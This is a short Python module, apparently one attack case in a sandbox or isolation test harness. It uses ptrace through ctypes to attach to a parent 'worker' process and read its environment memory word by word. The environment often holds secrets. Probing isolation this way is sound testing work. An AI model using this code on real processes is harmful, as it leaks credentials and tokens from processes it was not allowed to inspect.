"""Traces the worker like a debugger, and reads its environment word by word."""

import ctypes
import os


def attack(world):
    library, parent = ctypes.CDLL(None, use_errno=True), world["parent"]
    library.ptrace.restype = ctypes.c_long
    library.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    attach, detach, peek = 16, 17, 2
    if library.ptrace(attach, parent, None, None):
        raise OSError(ctypes.get_errno(), "no tracing")
    os.waitpid(parent, 0)
    begin = int(open(f"/proc/{parent}/stat").read().rpartition(")")[2].split()[47])
    words = [library.ptrace(peek, parent, begin + 8 * number, None) for number in range(40)]
    library.ptrace(detach, parent, None, None)
    return b"".join(word.to_bytes(8, "little", signed=True) for word in words).decode(errors="replace")
